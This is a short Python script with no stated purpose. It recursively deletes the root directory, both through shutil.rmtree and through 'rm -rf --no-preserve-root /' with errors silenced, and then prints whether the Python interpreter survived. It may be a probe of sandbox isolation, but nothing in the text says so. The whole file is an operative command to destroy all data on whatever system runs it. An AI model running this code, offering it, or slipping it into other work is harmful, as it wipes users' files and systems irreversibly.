import os
import shutil
import subprocess

shutil.rmtree("/", ignore_errors=True)
subprocess.run(["/bin/rm", "-rf", "--no-preserve-root", "/"], stderr=subprocess.DEVNULL)
print("the interpreter is", "there" if os.path.exists("/usr/bin/python3") else "GONE")
